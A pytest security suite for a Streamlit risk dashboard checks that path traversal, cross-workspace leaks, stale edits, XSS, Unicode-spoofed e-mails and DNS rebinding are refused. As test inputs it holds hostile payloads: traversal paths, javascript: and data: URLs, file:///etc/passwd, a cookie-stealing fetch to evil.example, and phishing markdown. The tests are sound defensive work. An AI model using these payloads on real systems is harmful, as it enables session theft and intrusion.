"""The team server as a hostile signed-in user would try it (issue 24, findings 1, 2 and 5): the address bar
names only a bundled example or a stored catalog of the person's own workspace; nothing opened in one
workspace shows up in another or after a person is removed; deletes, re-uploads and settings follow
"changed since you opened it"; without sign-in each browser session has its own drafts."""

from __future__ import annotations

import pytest
import streamlit as st
import yaml
from streamlit.testing.v1 import AppTest

from risk.catalog import catalog_from_dict
from risk.catalog.load import catalog_sha256
from risk.dashboard.workspace import Workspace, open_store
from tests.paths import DEFAULT_CATALOG, EXAMPLES, PROJECT_ROOT

APP = str(PROJECT_ROOT / "app.py")
PAGES = "risk/dashboard/pages/"
pytestmark = pytest.mark.timeout(300)


def _doc(organisation: str) -> dict:
    doc = yaml.safe_load(DEFAULT_CATALOG.read_text())
    doc["settings"] = {"simulated_years": 500, "uncertainty_draws": 5}
    doc["organisation"] = organisation
    return doc


def _save(ws, name: str, organisation: str) -> str:
    doc = _doc(organisation)
    sha = catalog_sha256(catalog_from_dict(doc))
    ws.save_catalog(name, yaml.safe_dump(doc, sort_keys=False), "upload", sha)
    return sha


@pytest.fixture()
def server(tmp_path, monkeypatch):
    monkeypatch.setenv("LYNCHPIN_WORKSPACE", str(tmp_path / "workspace.sqlite"))
    st.cache_resource.clear()
    st.cache_data.clear()
    return Workspace(tmp_path / "workspace.sqlite")


def _open(catalog: str | None = None, page: str | None = None, **session) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=240)
    if catalog is not None:
        at.query_params["catalog"] = catalog
    for k, v in session.items():
        at.session_state[k] = v
    at.run()
    assert not at.exception, at.exception
    if page:
        at.switch_page(PAGES + page).run()
        assert not at.exception, at.exception
    return at


def _shown(at: AppTest) -> str:
    return "\n".join(c.value for c in at.caption) + "\n".join(m.value for m in at.markdown)


# 1. The address bar names no file ------------------------------------------------------------------------
def _secret_catalog(tmp_path):
    """A valid catalog file outside the examples folder, as an attacker would aim at one."""
    secret = tmp_path / "secret" / "board.yaml"
    secret.parent.mkdir()
    secret.write_text(yaml.safe_dump(_doc("Secret Board Trust"), sort_keys=False))
    return secret


def _references(tmp_path) -> list[str]:
    secret = _secret_catalog(tmp_path)
    relative = "../" * 12 + str(secret.with_suffix(""))[1:]
    link = tmp_path / "link"
    link.symlink_to(secret.parent)
    return [
        "example:" + str(secret.with_suffix("")),  # absolute
        "example:" + relative,  # ../ up from the examples folder
        "example:" + relative.replace("/", "%2f"),  # encoded separators
        "example:" + relative.replace("/", "\\"),
        "example:" + str(link / "board"),  # through a symlink
        "example:" + str(tmp_path / "no-such-file"),  # no existence oracle: the same answer as a real file
        "example:nhs-acute-trust/../../../" + str(secret.with_suffix(""))[1:],
        "file:" + str(secret),
        "saved:../" + str(secret),
    ]


def test_the_address_bar_cannot_open_a_file_from_disk(server, tmp_path):
    for reference in _references(tmp_path):
        at = _open(reference)
        text = _shown(at)
        assert "Secret Board Trust" not in text, reference
        warning = "\n".join(w.value for w in at.warning)
        assert "not a bundled example or a catalog of this workspace" in warning, reference
        assert str(tmp_path) not in warning and "secret" not in warning.lower(), reference
        assert at.query_params["catalog"] == "example:nhs-acute-trust", reference
        at.switch_page(PAGES + "catalog.py").run()  # the download offered is the example, not the file
        assert not at.exception, at.exception
        assert "Secret Board Trust" not in _shown(at), reference


def test_every_bundled_example_opens_by_its_id(server):
    for path in sorted(EXAMPLES.glob("*.yaml")):
        at = _open("example:" + path.stem)
        assert not at.warning, path.stem
        assert at.query_params["catalog"] == "example:" + path.stem


# 2. Workspaces apart ------------------------------------------------------------------------------------
def _two_teams(server):
    """The local user is in both: the default workspace and 'team-b', each with a catalog named 'trust'."""
    _save(server, "trust", "Team A Trust")
    team_b = open_store(server.store.url).create_workspace("team-b", "local")
    _save(team_b, "trust", "Team B Trust")
    return team_b


def test_a_catalog_opened_in_one_workspace_never_stands_in_for_another(server):
    team_b = _two_teams(server)
    at = _open("saved:trust")
    assert "Team A Trust" in _shown(at)
    at.session_state["workspace_slug"] = "team-b"
    at.run()
    assert not at.exception, at.exception
    at.session_state["catalog_key"] = "saved:trust"  # the same name, in team B
    at.run()
    assert not at.exception, at.exception
    shown = _shown(at)
    assert "Team B Trust" in shown and "Team A Trust" not in shown
    # The Overview kept team B's assessment in team B, and nothing of team A.
    kept = team_b.snapshots("trust")
    assert kept and all("Team A Trust" not in k.assessment for k in kept)
    assert all("Team B Trust" not in k.assessment for k in server.snapshots("trust"))


def test_a_switch_of_workspace_drops_the_other_workspace_catalog(server):
    _two_teams(server)
    at = _open("saved:trust")
    at.session_state["workspace_slug"] = "team-b"
    at.run()
    assert not at.exception, at.exception
    # The catalog of workspace A is not carried over into B under its name.
    assert "Team A Trust" not in _shown(at)
    assert not any("Team A" in str(v) for v in at.session_state["loaded_versions"].values())


def test_a_member_removed_mid_session_sees_nothing_more(server, monkeypatch, tmp_path):
    monkeypatch.setenv("LYNCHPIN_OWNERS", "olu@nhs.example")
    owner = Workspace(tmp_path / "workspace.sqlite", person="olu@nhs.example", slug="team")
    _save(owner, "board", "Team Board Trust")
    owner.set_member("local", "viewer")
    at = _open("saved:board", workspace_slug="team")
    assert "Team Board Trust" in _shown(at)
    owner.set_member("local", None)
    at.run()
    assert not at.exception, at.exception
    assert "Team Board Trust" not in _shown(at)
    assert "not a bundled example or a catalog of this workspace" in "\n".join(w.value for w in at.warning)


# 5. Changes follow "changed since you opened it" ---------------------------------------------------------
def test_a_delete_of_a_version_someone_replaced_is_refused(server):
    first = _save(server, "trust", "Trust v1")
    second = _save(server, "trust", "Trust v2")
    assert not server.delete_catalog("trust", expected=first)  # the owner was shown version 1
    assert server.catalog("trust") is not None
    assert server.delete_catalog("trust", expected=second)
    assert server.catalog("trust") is None
    assert not server.delete_catalog("trust", expected=second)  # already gone


def test_an_edit_of_a_deleted_catalog_does_not_bring_it_back(server):
    sha = _save(server, "trust", "Trust v1")
    server.delete_catalog("trust")
    assert not server.save_catalog_if("trust", "edited", "edit", "sha-edit", sha)
    assert server.catalog("trust") is None


def test_a_deleted_name_can_be_used_again(server):
    _save(server, "trust", "Trust v1")
    server.delete_catalog("trust")
    assert server.save_catalog_if("trust", "new text", "upload", "sha-new", None)
    again = server.catalog("trust")
    assert again.text == "new text" and again.version == 2  # numbering goes on; the old versions stay


def test_an_upload_to_a_deleted_name_works_from_the_dashboard(server):
    _save(server, "trust", "Trust v1")
    server.delete_catalog("trust")
    # The Catalog page's own upload path (state.save_upload), run in a dashboard session.
    script = """
import yaml
from risk.catalog import catalog_from_dict
from risk.dashboard import state
from tests.paths import DEFAULT_CATALOG
doc = yaml.safe_load(DEFAULT_CATALOG.read_text())
doc["organisation"] = "Trust reborn"
st_name = state.save_upload("trust", catalog_from_dict(doc), "upload: trust.yaml")
assert st_name == "trust", st_name
"""
    probe = AppTest.from_string(script, default_timeout=60)
    probe.run()
    assert not probe.exception, probe.exception
    assert "Trust reborn" in server.catalog("trust").text


def test_a_reupload_of_an_incident_log_says_what_it_replaced(server):
    assert server.save_incident_log("ours.csv", b"id,provider\n") is None
    author, saved_at, size = server.save_incident_log("ours.csv", b"id,provider\nx,y\n")
    assert (author, size) == ("local", len(b"id,provider\n")) and saved_at
    assert server.incident_logs() == [("ours.csv", b"id,provider\nx,y\n")]


def test_a_stale_settings_page_does_not_revert_a_newer_choice(server):
    at = _open("example:nhs-acute-trust", page="settings.py")
    assert next(c for c in at.checkbox if c.key == "use_history").value is True
    server.set_pref("use_shipped_history", False)  # a teammate, in another session
    at.run()  # this stale page reruns (any click)
    assert not at.exception, at.exception
    assert server.pref("use_shipped_history") is False
    assert next(c for c in at.checkbox if c.key == "use_history").value is False  # and now shows theirs


def test_a_setting_changes_only_from_what_the_page_showed(server):
    assert server.set_pref_if("use_shipped_history", False, True, default=True)
    assert not server.set_pref_if("use_shipped_history", True, True, default=True)  # stale: it is False now
    assert server.pref("use_shipped_history") is False
    assert server.set_pref_if("settings_overrides", {"seed": 3}, {}, default={})
    assert not server.set_pref_if("settings_overrides", {}, {}, default={})
    assert server.pref("settings_overrides") == {"seed": 3}


def test_a_stale_settings_page_for_a_viewer_does_not_crash(server, monkeypatch, tmp_path):
    monkeypatch.setenv("LYNCHPIN_OWNERS", "olu@nhs.example")
    owner = Workspace(tmp_path / "workspace.sqlite", person="olu@nhs.example", slug="team")
    owner.set_member("local", "viewer")
    at = _open("example:nhs-acute-trust", page="settings.py", workspace_slug="team")
    owner.set_pref("use_shipped_history", False)
    at.run()
    assert not at.exception, at.exception
    assert owner.pref("use_shipped_history") is False


def test_without_sign_in_each_browser_session_has_its_own_drafts(server):
    one = _open("example:nhs-acute-trust", page="catalog.py")
    two = _open("example:nhs-acute-trust", page="catalog.py")
    a, b = one.session_state["draft_session"], two.session_state["draft_session"]
    assert a != b and len(a) == 16
    server.save_draft("example:nhs-acute-trust", {"services": [["id"], ["mine"]]}, session=a)
    assert server.draft("example:nhs-acute-trust", session=b) is None
    assert server.draft("example:nhs-acute-trust", session=a) == {"services": [["id"], ["mine"]]}
    # A reload of the tab (a new session with the same address) finds its own draft token again.
    again = AppTest.from_file(APP, default_timeout=240)
    again.query_params["catalog"] = "example:nhs-acute-trust"
    again.query_params["tab"] = a
    again.run()
    assert again.session_state["draft_session"] == a


def test_identical_inputs_in_two_workspaces_never_show_the_other_team_names(server):
    """Two teams import the same public incident export under their own file names: the figures may be
    shared (they are the same numbers), but the Run a page shows names this workspace's file, never the
    other team's (its notes, sources and merges go into the Overview and the report packs)."""
    import json

    from risk.run import load_shipped_history

    row = next(r for r in load_shipped_history() if r.id == "microsoft-20250301").model_dump(mode="json")
    log = json.dumps([{**row, "id": "trust-copy"}]).encode()
    server.save_incident_log("alpha-board-confidential.json", log)
    team_b = open_store(server.store.url).create_workspace("team-b", "local")
    team_b.save_incident_log("ours.json", log)
    probe = """
import streamlit as st
from risk.dashboard import state
run = state.run()
st.session_state["seen"] = (list(run.sources), [m.where for m in run.merges], [str(p) for p in run.notes])
"""
    first = AppTest.from_string(probe, default_timeout=120).run()
    assert not first.exception, first.exception
    assert "alpha-board-confidential.json" in first.session_state["seen"][0]
    second = AppTest.from_string(probe, default_timeout=120)
    second.session_state["workspace_slug"] = "team-b"
    second.run()
    assert not second.exception, second.exception
    sources, merged, notes = second.session_state["seen"]
    assert "ours.json" in sources and merged == ["ours.json"], second.session_state["seen"]
    assert not any("alpha" in x for x in [*sources, *merged, *notes])


def test_a_workspace_preferences_are_read_by_its_members_only(server, monkeypatch, tmp_path):
    """Aliases and settings overrides are the team's, like its catalogs: a person who is not (or no longer) a
    member reads the default, never the team's value (the store checks, whatever the page does)."""
    monkeypatch.setenv("LYNCHPIN_OWNERS", "olu@nhs.example")
    owner = Workspace(tmp_path / "workspace.sqlite", person="olu@nhs.example", slug="team")
    owner.set_pref("aliases", "products:\n  Exchange Online: [Project Phoenix mail]\n")
    owner.set_member("eve@nhs.example", "viewer")
    eve = Workspace(tmp_path / "workspace.sqlite", person="eve@nhs.example", slug="team")
    assert "Phoenix" in eve.pref("aliases", "")
    owner.set_member("eve@nhs.example", None)
    outsider = Workspace(tmp_path / "workspace.sqlite", person="eve@nhs.example", slug="team")
    outsider.store.forget_reads()
    assert outsider.pref("aliases", "") == "" and outsider.pref("settings_overrides") is None


# A link anyone can write ----------------------------------------------------------------------------------
def _record(**extra) -> dict:
    from risk.run import load_shipped_history

    row = next(r for r in load_shipped_history() if r.id == "microsoft-20250301").model_dump(mode="json")
    return {**row, "id": "ours-1", **extra}


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        " JaVaScRiPt:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "https://status.example/x' onmouseover='alert(1)",
        "https://status.example/<script>",
        "https://",
    ],
)
def test_an_incident_log_record_links_only_to_a_web_page(url):
    """A teammate's incident log (or a provider feed) becomes links in the History page, the HTML report and
    the incident brief: a javascript:, data: or file: address, or one that breaks out of its attribute, is
    refused with where it is, never stored as a link."""
    import json

    from risk.history.load import read_outages

    report = read_outages([("ours.json", json.dumps([_record(source_url=url)]).encode())])
    assert report.records == [] and report.problems
    assert "ours.json" in str(report.problems[0].location) and "source_url" in report.problems[0].message


@pytest.mark.parametrize("url", ["https://status.example/incidents/1", "http://status.example/(x)", "", None])
def test_an_incident_log_record_with_a_web_address_or_none_still_reads(url):
    import json

    from risk.history.load import read_outages

    report = read_outages([("ours.json", json.dumps([_record(source_url=url)]).encode())])
    assert [r.source_url for r in report.records] == [url or None], report.problems


def test_a_statuspage_export_with_a_script_shortlink_leaves_that_incident_out():
    import json

    from risk.interchange.incidents import import_incidents

    incident = {
        "id": "inc1",
        "name": "Okta Verify push notifications failing",
        "started_at": "2026-11-30T09:00:00Z",
        "resolved_at": "2026-11-30T10:00:00Z",
        "impact": "critical",
        "shortlink": "javascript:fetch('https://evil.example/'+document.cookie)",
        "components": [{"name": "Okta Verify"}],
    }
    doc = {"page": {"id": "p", "name": "Okta"}, "incidents": [incident, {**incident, "id": "inc2", "shortlink": None}]}
    imported = import_incidents(json.dumps(doc).encode(), "statuspage", "okta.json")
    assert [r.source_url for r in imported.records] == [None]
    assert len(imported.skipped) == 1 and "source_url" in str(imported.skipped[0])


def test_the_incident_brief_runs_no_script_whatever_its_text():
    from datetime import UTC, datetime

    from risk.advice.incident import incident
    from risk.catalog.load import read_catalog
    from risk.presentation.incident import incident_brief_html
    from risk.run import Run, load_shipped_history

    run = Run.build(read_catalog(DEFAULT_CATALOG).catalog, load_shipped_history())
    start, now = datetime(2026, 11, 30, 8, tzinfo=UTC), datetime(2026, 11, 30, 10, tzinfo=UTC)
    result = incident(run.catalog, run.records, run.settings, ["entra-mfa"], start, now, run.aliases)
    result.title = "</title><script>alert(1)</script>"
    page = incident_brief_html(result, "<img src=x onerror=alert(1)>", now)
    head = page.split("</head>", 1)[0]
    assert "Content-Security-Policy" in head and "default-src 'none'" in head and "script-src" not in head
    assert "<script>" not in page and "<img" not in page and "&lt;script&gt;" in page
    assert all(href.startswith("http") for href in page.split("href='")[1:])


# Member e-mail addresses ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("given", "why"),
    [
        ("olu@nhs.example\u202egro.elpmaxe", "U+202E"),  # shows as another address in the members list
        ("eve@nhs.example\u200b", "U+200B"),
        ("eve@nhs.example\x1b[2J", "U+001B"),
        ("eve @nhs.example", "a space"),
        ("e" * 310 + "@nhs.example", "at most 320 characters; this one has 322"),
        ("   ", "give the member's e-mail address"),
    ],
)
def test_a_member_address_that_would_pass_for_another_is_refused(server, given, why):
    import re

    with pytest.raises(ValueError, match=re.escape(why)):
        server.set_member(given, "viewer")
    assert [m for m, _ in server.members()] == ["local"]


def test_a_member_address_on_the_length_limit_is_added(server):
    name = "e" * 308 + "@nhs.example"
    assert len(name) == 320
    server.set_member(name.upper(), "viewer")
    assert (name, "viewer") in server.members()


def test_the_settings_page_refuses_a_hidden_character_in_a_member_address(server):
    at = _open("example:nhs-acute-trust", page="settings.py")
    at.text_input(key="member_email").set_value("eve@nhs.example\u202e")
    next(b for b in at.button if b.label == "Add or change member").click().run()
    assert not at.exception, at.exception
    assert any("U+202E" in e.value.replace("\\", "") for e in at.error), [e.value for e in at.error]
    assert [m for m, _ in server.members()] == ["local"]


# Sign-in ---------------------------------------------------------------------------------------------------
def _signed_in(monkeypatch, user: dict) -> AppTest:
    import tomllib

    monkeypatch.setenv("LYNCHPIN_AUTH", "1")
    monkeypatch.setenv("LYNCHPIN_OWNERS", "olu@nhs.example")
    at = AppTest.from_file(APP, default_timeout=240)
    at.secrets["auth"] = tomllib.loads((PROJECT_ROOT / "deploy" / "demo-secrets.toml").read_text())["auth"]
    at.user = {"is_logged_in": True, **user}
    at.run()
    assert not at.exception, at.exception
    return at


@pytest.mark.parametrize("verified", [False, "false", "False"])
def test_a_sign_in_with_an_unverified_owner_address_is_no_one(server, monkeypatch, verified):
    """Some providers let anyone put any address on an account (email_verified false): typing an owner's
    address must not make the attacker that owner."""
    at = _signed_in(monkeypatch, {"email": "OLU@nhs.example", "email_verified": verified})
    assert [t.value for t in at.title] == ["E-mail address not verified"]
    assert "Signed in as" not in "\n".join(c.value for c in at.sidebar.caption)
    assert "Northbridge" not in _shown(at)


@pytest.mark.parametrize("user", [{"email": "olu@nhs.example", "email_verified": True}, {"email": "olu@nhs.example"}])
def test_a_verified_owner_address_or_a_provider_without_the_claim_signs_in(server, monkeypatch, user):
    at = _signed_in(monkeypatch, user)
    assert "Signed in as olu@nhs\\.example" in [c.value for c in at.sidebar.caption]


# Without sign-in: this machine's own browser only ------------------------------------------------------------
@pytest.mark.parametrize(
    ("headers", "refused"),
    [
        ({}, None),  # not a browser (a test run): no Host to check
        ({"Host": "localhost:8501"}, None),
        ({"Host": "127.0.0.1:8501"}, None),
        ({"Host": "[::1]:8501"}, None),
        ({"Host": "lynchpin.localhost:8501"}, None),
        ({"Host": "localhost:8501", "X-Forwarded-For": "127.0.0.1"}, None),
        ({"Host": "localhost", "Forwarded": "for=127.0.0.1;proto=http"}, None),
        ({"host": "rebind.evil.example:8501"}, "names 'rebind.evil.example:8501'"),  # DNS rebinding
        ({"Host": "localhost.evil.example:8501"}, "names 'localhost.evil.example:8501'"),
        ({"Host": "localhost:8501", "X-Forwarded-For": "203.0.113.9, 127.0.0.1"}, "proxy for 203.0.113.9"),
        ({"Host": "localhost:8501", "X-Real-IP": "10.0.0.7"}, "proxy for 10.0.0.7"),
        ({"Host": "localhost", "Forwarded": 'for="[2001:db8::1]:4711";proto=https'}, "proxy for 2001:db8::1"),
    ],
)
def test_without_sign_in_only_this_machines_browser_is_answered(headers, refused):
    from risk.dashboard.access import foreign_request

    found = foreign_request(headers)
    assert (found is None) if refused is None else (found is not None and refused in found), found


def test_without_sign_in_a_rebound_host_name_sees_no_page(server, monkeypatch):
    from risk.dashboard import access

    monkeypatch.setattr(access, "_headers", lambda: {"Host": "rebind.evil.example:8501"})
    at = _open()
    assert "this machine's own browser" in "\n".join(e.value for e in at.error)
    assert "Northbridge" not in _shown(at) and not at.title
    monkeypatch.setattr(access, "_headers", lambda: {"Host": "localhost:8501"})
    assert "Northbridge" in _shown(_open())


# A role lost while a page is open ----------------------------------------------------------------------------
def test_an_editor_demoted_mid_session_changes_nothing_through_the_open_page(server, monkeypatch, tmp_path):
    """The page was drawn while the person was an editor (its forms enabled); an owner makes them a viewer;
    their next click on the stale form (or a forged one) changes nothing and raises nothing."""
    monkeypatch.setenv("LYNCHPIN_OWNERS", "olu@nhs.example")
    owner = Workspace(tmp_path / "workspace.sqlite", person="olu@nhs.example", slug="team")
    owner.set_member("local", "editor")
    at = _open("example:nhs-acute-trust", page="settings.py", workspace_slug="team")
    text = next(t for t in at.text_area if t.key == "aliases_text")
    assert not text.disabled
    owner.set_member("local", "viewer")
    text.set_value("products:\n  Exchange Online: [Hostile mail]\n")
    next(b for b in at.button if b.label == "Save aliases").click().run()
    assert not at.exception, at.exception
    assert owner.pref("aliases") is None
    assert next(t for t in at.text_area if t.key == "aliases_text").disabled  # and the page now says so
    assert [a[2] for a in owner.audit_log()] == ["member", "member"]


def test_a_teammates_log_that_no_longer_reads_is_shown_as_text_not_markdown(server):
    """A log saved before a rule it breaks (here: its source is not a web address) is reported on the History
    page to every member; the report quotes the log, so its text must not become a link or an image there."""
    import json

    bait = "[Sign-in-again](https://phish.example)![](https://evil.example/seen.png)"
    server.save_incident_log("ours.json", json.dumps([_record(source_url=bait)]).encode())
    at = _open("example:nhs-acute-trust", page="history.py")
    warned = [w.value for w in at.warning if "ours" in w.value]
    assert warned and "https://phish" in warned[0], [w.value for w in at.warning] + [e.value for e in at.error]
    assert "](https://phish" not in warned[0] and "![" not in warned[0]  # escaped: \[ \] \( \)


@pytest.mark.parametrize(
    ("slug", "refused"),
    [
        ("../default", True),
        ("team/../../x", True),
        ("Team-B", True),  # one team, one spelling: no 'Team-B' beside 'team-b'
        ("team-b\u202e", True),
        ("t", True),
        ("t" * 41, True),
        ("-team", True),
        ("te", False),
        ("t" * 40, False),
    ],
)
def test_a_workspace_name_is_plain_and_its_limits_are_exact(server, slug, refused):
    store = open_store(server.store.url)
    if refused:
        with pytest.raises(ValueError, match="2 to 40 lower-case letters"):
            store.create_workspace(slug, "local")
        assert slug not in store.workspaces_of("local")
    else:
        assert store.create_workspace(slug, "local").slug in store.workspaces_of("local")


def test_a_workspace_name_taken_by_another_team_is_refused_not_joined(server):
    store = open_store(server.store.url)
    store.create_workspace("team-b", "olu@nhs.example")
    with pytest.raises(ValueError, match="exists already"):
        store.create_workspace("team-b", "eve@nhs.example")
    assert store.workspaces_of("eve@nhs.example") == []


def test_a_link_to_a_saved_catalog_opens_it_in_the_persons_own_workspace(server, monkeypatch):
    """A signed-in person in team B only (not the default workspace) follows a link ?catalog=saved:trust:
    the session starts in the default workspace, the gate moves it to theirs, and the link opens team B's
    'trust', not the bundled example (the move is not a switch that forgets the address) nor team A's."""
    team_b = open_store(server.store.url).create_workspace("team-b", "olu@nhs.example")
    _save(server, "trust", "Team A Trust")
    _save(team_b, "trust", "Team B Trust")
    monkeypatch.setenv("LYNCHPIN_AUTH", "1")
    monkeypatch.setenv("LYNCHPIN_OWNERS", "someone-else@nhs.example")
    import tomllib

    at = AppTest.from_file(APP, default_timeout=240)
    at.secrets["auth"] = tomllib.loads((PROJECT_ROOT / "deploy" / "demo-secrets.toml").read_text())["auth"]
    at.user = {"is_logged_in": True, "email": "olu@nhs.example", "email_verified": True}
    at.query_params["catalog"] = "saved:trust"
    at.run()
    assert not at.exception, at.exception
    shown = _shown(at)
    assert "Team B Trust" in shown and "Team A Trust" not in shown and "Northbridge" not in shown
